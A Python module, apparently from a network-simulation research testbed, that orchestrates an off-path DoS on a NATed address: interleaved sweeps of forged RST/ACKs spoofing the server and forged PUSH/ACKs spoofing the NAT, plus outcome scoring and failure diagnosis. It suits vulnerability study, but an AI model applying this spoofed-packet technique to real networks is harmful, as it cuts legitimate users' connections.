"""Off-path DoS orchestrator against a NATed public address.

The attack interleaves two blind sweeps: forged RST/ACKs spoofing the
victim server toward every plausible external port of the NAT, and
forged PUSH/ACKs spoofing the NAT toward the server's service port.
On a vulnerable device the RSTs strip the session mappings, the
PUSH/ACKs coax duplicate ACKs out of the server, and the now-unmapped
duplicate ACKs bounce off the NAT as reflected RSTs carrying the exact
sequence numbers that tear the server sockets; the clients die on their
next send.  Packet crafting is a pure function of the plan, so the
attacker never reads victim connection state.

`run_dos_attack` takes a built scenario's `Handles`: the sweeps read only
its plan and attacker node; outcome detection reads the server, the
victims, the clients that attempt new connections and the NAT.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from enum import Enum
from typing import TYPE_CHECKING

from .endpoint import DEFAULT_EPHEMERAL_RANGE, ConnKey, Host, TcpState
from .fabric import DropClass, derive_rng
from .wire import (
    PSH_ACK,
    PSH_BIT,
    RST_ACK,
    RST_BIT,
    SEQ_MOD,
    Ipv4Datagram,
    TcpFlag,
    TcpSegment,
    check_port_range,
    check_range,
    tcp_packet,
)

if TYPE_CHECKING:  # `scenario` imports this module
    from .scenario import Handles

# an Enum member read per packet: through the class, each read costs several times a global
_RST = TcpFlag.RST

# forged packets one plan may send: 8 rounds of two full 65,536-port sweeps
MAX_FORGED_PACKETS = 1 << 20
# the data bytes of each victim's send after the attack, which completes the teardown
PROBE_PAYLOAD = 16
# the outcome columns of the attack and assessment CSVs, in order
OUTCOME_CSV_COLUMNS = "success,diagnosis,rst,pushack,octets,ticks,bandwidth,torn,blocked"


class NothingToAttackError(Exception):
    """No established victim connection exists through the NAT."""


class FailureDiagnosis(Enum):
    NONE = "none"
    FORWARDED_RST_NO_REMOVAL = "forwarded-rst-no-removal"
    RST_BLOCKED_BY_MIDDLEBOX = "rst-blocked-by-middlebox"
    RST_NOT_ROUTED = "rst-not-routed"
    SWEEP_MISSED_MAPPINGS = "sweep-missed-mappings"
    NO_DUP_ACK_FROM_SERVER = "no-dup-ack-from-server"
    PACKET_LOSS = "packet-loss"


@dataclass(frozen=True)
class AttackPlan:
    nat_public_ip: str
    victim_server: tuple[str, int]
    dst_port_range: tuple[int, int] = DEFAULT_EPHEMERAL_RANGE
    push_ack_src_port_range: tuple[int, int] = DEFAULT_EPHEMERAL_RANGE
    interleave_batch: int = 1024
    rounds: int = 1
    forged_seq: int = 0
    set_ack_flag_on_rst: bool = True
    new_connection_attempts: int = 2
    seed: int = 0
    settle_ticks: int = 60  # after the sweeps, and again after the victims' next sends

    def __post_init__(self):
        check_port_range("dst_port_range", self.dst_port_range)
        check_port_range("push_ack_src_port_range", self.push_ack_src_port_range)
        check_range("interleave_batch", self.interleave_batch, 1)
        check_range("rounds", self.rounds, 1)
        sweeps = (self.dst_port_range, self.push_ack_src_port_range)
        per_round = sum(hi - lo + 1 for lo, hi in sweeps)
        if self.rounds * per_round > MAX_FORGED_PACKETS:
            raise ValueError(
                f"rounds: {self.rounds} rounds of {per_round} forged packets exceed the "
                f"bound of {MAX_FORGED_PACKETS}"
            )
        check_range("forged_seq", self.forged_seq, 0, SEQ_MOD)
        check_range("victim_server", self.victim_server[1], 0, 0x10000)
        check_range("new_connection_attempts", self.new_connection_attempts, 0)
        check_range("settle_ticks", self.settle_ticks, 0)


@dataclass
class AttackReport:
    rst_packets_sent: int = 0
    push_ack_packets_sent: int = 0
    octets_sent: int = 0
    duration_ticks: int = 0
    implied_bandwidth: float = 0.0  # octets per nominal second
    mappings_removed: int = 0
    server_sockets_reset: int = 0
    client_connections_torn: int = 0
    new_connections_blocked: int = 0
    new_connections_attempted: int = 0
    victim_connections: int = 0
    success: bool = False
    failure_diagnosis: FailureDiagnosis = FailureDiagnosis.NONE

    def csv_row(self, scenario: str, policy: str) -> str:
        return f"{scenario},{policy},{self.outcome_csv()}"

    def outcome_csv(self, status: str | None = None) -> str:
        """The OUTCOME_CSV_COLUMNS values; `status` stands in for the
        success and diagnosis pair."""
        status = status or f"{str(self.success).lower()},{self.failure_diagnosis.value}"
        return (
            f"{status},{self.rst_packets_sent},{self.push_ack_packets_sent},{self.octets_sent},"
            f"{self.duration_ticks},{self.implied_bandwidth:.1f},"
            f"{self.client_connections_torn},{self.new_connections_blocked}"
        )


def craft_rst_sweep(plan: AttackPlan, ports: range | None = None) -> list[Ipv4Datagram]:
    """One forged 40-octet RST per destination port (by default the plan's
    whole range; `ports` must lie inside it), spoofing the victim server;
    the sequence number is whatever the plan says, because a vulnerable
    device never checks it.  The checked plan vouches for every field, so
    the packets are built store-only."""
    flags = RST_ACK if plan.set_ack_flag_on_rst else _RST
    if ports is None:
        ports = _port_span(plan.dst_port_range)
    server_addr, server_port = plan.victim_server
    nat_addr, seq = plan.nat_public_ip, plan.forged_seq
    return [
        tcp_packet(server_addr, nat_addr, server_port, port, seq, 0, flags, 0, 0, False) for port in ports
    ]


def craft_push_ack_sweep(
    plan: AttackPlan, ports: range | None = None, rng: random.Random | None = None
) -> list[Ipv4Datagram]:
    """One forged PUSH/ACK per source port (by default the plan's whole
    range; `ports` must lie inside it), spoofing the NAT toward the server.
    Sequence and acknowledgment numbers are arbitrary, drawn from `rng` (by
    default the plan's freshly seeded one; a sweep crafted in parts passes
    the same rng to each part); one payload octet makes the segment
    impossible to ignore.  Built store-only, as the RST sweep is."""
    if rng is None:
        rng = _push_ack_rng(plan)
    if ports is None:
        ports = _port_span(plan.push_ack_src_port_range)
    server_addr, server_port = plan.victim_server
    nat_addr, draw = plan.nat_public_ip, rng.getrandbits
    return [
        tcp_packet(nat_addr, server_addr, port, server_port, draw(32), draw(32), PSH_ACK, 1, 0, False)
        for port in ports
    ]


def _push_ack_rng(plan: AttackPlan) -> random.Random:
    return derive_rng(plan.seed, "push-ack", plan.nat_public_ip)


def _port_span(port_range: tuple[int, int]) -> range:
    lo, hi = port_range
    return range(lo, hi + 1)


def _sweep_batches(plan: AttackPlan):
    """The two sweeps in (RSTs, PUSH/ACKs) pairs of up to `interleave_batch`
    packets each, until the longer sweep is spent; a pair is crafted only
    when it is asked for, so a single pass never holds a whole sweep."""
    rst_ports = _port_span(plan.dst_port_range)
    push_ports = _port_span(plan.push_ack_src_port_range)
    rng = _push_ack_rng(plan)
    size = plan.interleave_batch
    for lo in range(0, max(len(rst_ports), len(push_ports)), size):
        cut = slice(lo, lo + size)
        yield craft_rst_sweep(plan, rst_ports[cut]), craft_push_ack_sweep(plan, push_ports[cut], rng)


def run_dos_attack(handles: Handles) -> AttackReport:
    """Drive the interleaved sweeps, then trigger each victim's next send
    and collect the outcome."""
    sim, plan, server, nat = handles.sim, handles.plan, handles.server_host, handles.nat
    victims = [(h, k) for h, k in handles.victims if h.state(k) == TcpState.ESTABLISHED]
    if not victims:
        raise NothingToAttackError("nothing-to-attack")

    report = AttackReport(victim_connections=len(victims))
    batches = _sweep_batches(plan)
    if plan.rounds > 1:
        # every round sends the same packets: holding them costs less than
        # crafting them again; a one-round attack crafts each batch as it goes
        batches = list(batches)
    removed_before = nat.mappings_removed_by_rst
    # only sockets that predate the attack count toward server resets;
    # half-open ghosts from blocked attempts are scored as blocked instead
    standing = {
        k for k, s in server.sockets.items()
        if s.state == TcpState.ESTABLISHED and s.reset_record is None
    }
    dup_acks_before = server.dup_acks_sent
    window_start = sim.now
    evidence: set[str] = set()
    clients = [handles.hosts[c] for c in handles.scenario.clients]

    attempts: list[tuple[Host, ConnKey]] = []
    last_inject = sim.now
    sim.on_drop, on_arrival = _evidence_hooks(handles, evidence)
    for node_id, hook in on_arrival.items():
        sim.nodes[node_id].on_arrival = hook
    try:
        for i in range(plan.new_connection_attempts):
            client = clients[i % len(clients)]
            attempts.append((client, client.open_connection(sim, plan.victim_server)))
        for _ in range(plan.rounds):
            for rsts, pushes in batches:
                report.rst_packets_sent += len(rsts)
                report.push_ack_packets_sent += len(pushes)
                for batch in (rsts, pushes):
                    sim.inject(handles.attacker_node, *batch)
                    if batch:
                        # every packet of one crafted sweep has the same length
                        report.octets_sent += len(batch) * batch[0].total_length
                        last_inject = sim.now
                    sim.run(until=sim.now + 1)

        report.duration_ticks = last_inject - window_start + 1
        sim.run(until=sim.now + plan.settle_ticks)

        # the victims' own next transmissions complete the teardown chain
        for host, key in victims + attempts:
            if host.state(key) == TcpState.ESTABLISHED:
                host.send_data(sim, key, PROBE_PAYLOAD)
        sim.run(until=sim.now + plan.settle_ticks)
    finally:
        sim.on_drop = {}
        for node_id in on_arrival:
            sim.nodes[node_id].on_arrival = None

    report.implied_bandwidth = report.octets_sent / (report.duration_ticks * handles.scenario.tick_duration)
    report.mappings_removed = nat.mappings_removed_by_rst - removed_before
    report.server_sockets_reset = sum(1 for k in standing if server.sockets[k].reset_record is not None)
    report.client_connections_torn = sum(
        1 for h, k in victims if h.state(k) == TcpState.CLOSED
    )
    report.new_connections_attempted = len(attempts)
    report.new_connections_blocked = sum(
        1 for h, k in attempts if h.state(k) != TcpState.ESTABLISHED
    )
    report.success = report.client_connections_torn == len(victims) and (
        report.new_connections_blocked == len(attempts)
    )
    if not report.success:
        report.failure_diagnosis = _diagnose(report, evidence, server.dup_acks_sent > dup_acks_before)
    return report


# -- outcome analysis ------------------------------------------------------------


def _evidence_hooks(handles: Handles, seen: set[str]):
    """The attack window's (`on_drop` by drop reason, `on_arrival` by node
    id).  Each hook adds its kind to `seen` once a datagram shows it, and
    returns True, clearing its slot, once `seen` holds the kind: a forged
    RST, which spoofs the server with the plan's sequence number, shows
    every kind but "push-at-server", which a PUSH from the NAT's address
    shows.  The loss hook first adds "loss", for any link-loss drop."""
    plan = handles.plan
    server_addr, server_port = plan.victim_server

    def forged_rst(d: Ipv4Datagram):
        seg = d.payload
        return (d.src == server_addr and isinstance(seg, TcpSegment) and seg.seq == plan.forged_seq
                and seg.src_port == server_port and seg.flags._value_ & RST_BIT)

    def push_from_nat(d: Ipv4Datagram):
        seg = d.payload
        return d.src == plan.nat_public_ip and isinstance(seg, TcpSegment) and seg.flags._value_ & PSH_BIT

    def hook(kind: str, shows=forged_rst, loss: bool = False):
        def saw(d: Ipv4Datagram) -> bool:
            if loss:
                seen.add("loss")
            if kind not in seen and shows(d):
                seen.add(kind)
            return kind in seen

        return saw

    on_drop = {"loss": hook("rst-lost", loss=True), "rst-out-of-window": hook("rst-refused")}
    on_drop.update((f"filtered-{cls.value}", hook("rst-filtered")) for cls in DropClass)
    on_arrival = {h.node_id: hook("rst-at-client") for h, _ in handles.victims}
    on_arrival[handles.nat.node_id] = hook("rst-at-nat")
    on_arrival[handles.server_host.node_id] = hook("push-at-server", push_from_nat)
    return on_drop, on_arrival


def _diagnose(report: AttackReport, seen: set[str], dup_acked: bool) -> FailureDiagnosis:
    if report.mappings_removed == 0 and "rst-at-client" in seen:
        return FailureDiagnosis.FORWARDED_RST_NO_REMOVAL
    if "rst-at-nat" not in seen:
        if "rst-filtered" in seen:
            return FailureDiagnosis.RST_BLOCKED_BY_MIDDLEBOX
        if "rst-lost" in seen:
            return FailureDiagnosis.PACKET_LOSS
        # no forged RST was filtered, lost or seen at the NAT: none had a route
        return FailureDiagnosis.RST_NOT_ROUTED
    if report.mappings_removed == 0 and "rst-refused" not in seen:
        # the RSTs reached the NAT, and none matched a mapping to refuse
        return FailureDiagnosis.SWEEP_MISSED_MAPPINGS
    if "push-at-server" in seen and not dup_acked:
        return FailureDiagnosis.NO_DUP_ACK_FROM_SERVER
    if "loss" in seen:
        return FailureDiagnosis.PACKET_LOSS
    return FailureDiagnosis.NONE
